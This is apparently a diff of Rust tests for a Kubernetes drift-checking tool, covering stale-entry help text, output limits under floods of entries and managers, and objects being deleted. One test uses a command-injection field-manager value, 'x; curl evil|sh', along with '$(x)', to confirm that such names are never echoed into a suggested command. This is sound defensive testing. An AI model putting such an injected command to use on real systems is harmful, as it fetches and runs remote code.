@@ -321,7 +321,7 @@ fn the_cure_of_a_stale_entry_fits_the_delivery_and_the_owner() {
         let (bundle, _) = open(&shelf.fleet, &shelf.fleet.regions["eu"], &published, Some(&keys));
         let live = yaml(&format!("{{metadata: {{managedFields: [{managers}]}}}}"));
         let key = ObjectKey::secret("team-a".into(), "s".into());
-        stale(&bundle.unwrap(), &key, &node(&live), "data", "old").help
+        stale::stale(&bundle.unwrap(), &key, &node(&live), &[("data", "old".to_string())]).remove(0).help
     };
     let by = |manager: &str| format!("{{manager: {manager}, fieldsV1: {{'f:data': {{'f:old': {{}}}}}}}}");
     for (delivery, managers, expect) in [
@@ -333,9 +333,91 @@ fn the_cure_of_a_stale_entry_fits_the_delivery_and_the_owner() {
         ("argocd", by("manager"), "Remove the entry by hand"),
         ("argocd", by("argocd-controller"), "was not applied"),
         ("none", by("kubectl"), "Remove the entry by hand"),
+        ("flux", by("'a.b/c:d_e-9'"), "--override-manager=a.b/c:d_e-9, or"),
+        ("flux", by("'x; curl evil|sh'"), "Remove the entry by hand"),
+        ("flux", by("'$(x)'"), "Remove the entry by hand"),
+        ("flux", by("''"), "Remove the entry by hand"),
+        ("flux", by(&"x".repeat(129)), "Remove the entry by hand"),
+        ("flux", format!("{}, {}", by("manager"), by("'a b'")), "Remove the entry by hand"),
     ] {
         let help = help(json!(delivery), &managers);
         assert!(help.contains(expect), "{delivery} {managers}: {help}");
+    }
+}
+
+/// A region may hold anything: what is said of it stays short, and is found in no time.
+#[test]
+fn a_flood_of_entries_and_managers_is_counted() {
+    let entries: Vec<String> = (0..30_000).map(|n| format!("e{n:05}: x")).collect();
+    let owner = |n: usize| format!("{{manager: m{n}, fieldsV1: {{'f:data': {{'f:e00000': {{}}}}}}}}");
+    let managers: Vec<String> = (0..3_000).map(owner).collect();
+    let map = |data: &str, managers: &str| {
+        format!(
+            "{{apiVersion: v1, kind: ConfigMap, metadata: {{name: m, namespace: team-a, labels: {{MINE}}, \
+             managedFields: [{managers}]}}, data: {{{data}}}}}"
+        )
+    };
+    let shelf = Shelf::new(&[&map("a: x", "")]);
+    let found = |data: &str, managers: &str| shelf.against(Some(&ring(1)), &[&map(data, managers)], |_| {});
+    let flood = found(&format!("a: x, {}", entries.join(", ")), &managers.join(", "));
+    let lines: Vec<&str> = flood.lines().collect();
+    assert_eq!(lines.len(), 21, "{flood}");
+    let first = "stale-entry: ConfigMap team-a/m has data.e00000 on the region, which the bundle does not have; field \
+                 managers m0, m1, m10, m100, m101, m102, m103, m104 and 992 more own it";
+    assert!(lines.contains(&first), "{flood}");
+    assert!(flood.contains("data.e00019 on") && !flood.contains("data.e00020 on"), "{flood}");
+    assert!(flood.contains("; none of the first 1000 field managers owns it"), "{flood}");
+    assert!(flood.contains("m has 29980 more entries on the region that the bundle does not have"), "{flood}");
+    // What is named is cut where no API server would have let it go on, and quoted where it is no name.
+    let odd = found(&format!("a: x, {}: x", "n".repeat(300)), "{manager: \"a\\nb\", fieldsV1: {}}");
+    assert!(odd.contains(&format!("data[\"{}…\"] on", "n".repeat(253))), "{odd}");
+    let odd = found("a: x, b: x", "{manager: \"a\\n'b\", fieldsV1: {'f:data': {'f:b': {}}}}");
+    assert!(odd.ends_with("field manager \"a\\n'b\" owns it"), "{odd}");
+}
+
+#[test]
+fn what_is_being_deleted_is_as_good_as_missing() {
+    let going = |text: &str| text.replace("{name: ", "{deletionTimestamp: '2026-01-01T00:00:00Z', name: ");
+    let written = secret("stringData: {a: short}");
+    let gone = "missing-on-region: Secret team-a/s is being deleted on the region";
+    check(&written, &going(&secret("type: Opaque, stringData: {a: short}")), gone);
+    check(&written, &going(&secret("type: Opaque, stringData: {a: other}")), &format!("{gone}\n{DIFFERS} data.a"));
+    let null = secret("type: Opaque, stringData: {a: short}").replace("{name: ", "{deletionTimestamp: null, name: ");
+    check(&written, &null, "");
+
+    let namespace =
+        |name: &str| format!("{{apiVersion: v1, kind: Namespace, metadata: {{name: {name}, labels: {{env: prod}}}}}}");
+    let live = secret("type: Opaque, stringData: {a: short}");
+    let with = |bundle: &[&str], name: &str| {
+        Shelf::new(bundle).against(Some(&ring(1)), &[&live, &going(&namespace(name))], |_| {})
+    };
+    let made = namespace("team-a");
+    assert_eq!(
+        with(&[&made, &written], "team-a"),
+        "missing-on-region: Namespace team-a is being deleted on the region"
+    );
+    assert_eq!(
+        with(&[&written], "team-a"),
+        "namespace-missing-on-region: Namespace team-a is being deleted on the region"
+    );
+    assert_eq!(with(&[&written], "team-b"), "");
+}
+
+#[test]
+fn a_flood_of_copies_is_counted_by_kind() {
+    let found =
+        Shelf::new(&[&secret("stringData: {}")]).against(Some(&ring(1)), &[&secret("type: Opaque")], |answers| {
+            let labels = node(&json!({"metadata": {"labels": {"k0rdent.mirantis.com/managed": "true"}}}));
+            let key = |n: usize| ObjectKey::secret("team-a".into(), format!("x{n:04}").as_str().into());
+            answers.copies = (0..1_101).rev().map(|n| (key(n), labels.clone())).collect();
+            let kind = GroupKind::new("example.org", "Other");
+            let others = (0..101).map(|n| ObjectKey::new(kind.clone(), None, format!("y{n:03}").as_str().into()));
+            answers.copies.extend(others.map(|key| (key, labels.clone())));
+        });
+    assert_eq!(found.lines().count(), 100 + 1 + 100 + 1);
+    assert!(found.contains("Secret team-a/x0099 is a copy") && !found.contains("x0100"), "{found}");
+    for more in ["1001 more Secret objects are copies of k0rdent's", "1 more Other.example.org object is a copy of"] {
+        assert!(found.contains(more), "{found}");
     }
 }
 
@@ -533,7 +615,7 @@ fn without_the_key_names_and_types_are_compared() {
                  stale-entry: Secret team-a/s has data.c on the region, which the bundle does not have; no field \
                  manager owns it";
     // The word `value` is what this test's harness looks for.
-    let (code, rest) = (Code::ValuesNotCompared.text(), "the reuse key is not here");
+    let (code, rest) = (Code::ValuesNotCompared.text(), "--no-values: nobody vouches");
     let found = without_values(&shelf, None, &live);
     assert!(found.starts_with(names) && found.contains(code) && found.contains(rest), "{found}");
 
